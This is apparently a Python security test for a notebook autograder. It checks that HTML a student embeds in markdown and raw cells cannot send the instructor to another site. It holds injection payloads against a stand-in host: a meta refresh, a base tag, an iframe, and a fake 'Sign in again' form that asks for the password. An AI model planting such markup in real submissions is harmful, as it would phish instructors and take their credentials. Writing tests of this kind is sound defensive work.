# class: live script | goal: a page that leads away | expected: 0 points, nothing live
"""No script at all: a refresh, a base, a form and a frame in a student's own markdown and raw cells
take the instructor to another site, with the cookies or the words typed into it."""

MARKDOWN = [
    (
        "square",
        """
<meta http-equiv="refresh" content="0; url=http://192.0.2.1/@MARK@">
<base href="http://192.0.2.1/@MARK@/">
<link rel="stylesheet" href="http://192.0.2.1/@MARK@.css">
<form action="http://192.0.2.1/@MARK@"><input name="password"><button>Sign in again</button></form>
<iframe src="http://192.0.2.1/@MARK@"></iframe><object data="http://192.0.2.1/@MARK@"></object>
""",
    ),
    ("mean", "<template><script>1</script></template><portal src='http://192.0.2.1/'></portal>"),
]


def tamper(hand_in):
    """As raw cells too, which nbconvert writes into the page as they are."""
    cells = hand_in.notebook["cells"]
    for cell in [c for c in cells if c["cell_type"] == "markdown" and "id" in c][:]:
        fence = "\n```````\n" + "".join(cell["source"])
        html = {"format": "text/html", "raw_mimetype": "text/html"}
        cells.append({"cell_type": "raw", "metadata": html, "source": cell["source"]})
        cells.append({"cell_type": "raw", "metadata": html, "source": fence})


def harmed(world):
    import json

    path = world.course / "autograded" / world.student / "s01_target" / "s01_target.ipynb"
    raw = [c for c in json.loads(path.read_text())["cells"] if c["cell_type"] == "raw"]
    return "a raw cell of the student's is kept as raw HTML" if raw else ""


HONEST_MARKDOWN = [("square", "## My notes\n\n* see <https://example.org/refresh>\n* then `form`")]


def tamper_honestly(hand_in):
    hand_in.notebook["cells"].append({"cell_type": "raw", "metadata": {}, "source": "draft\n```\n"})
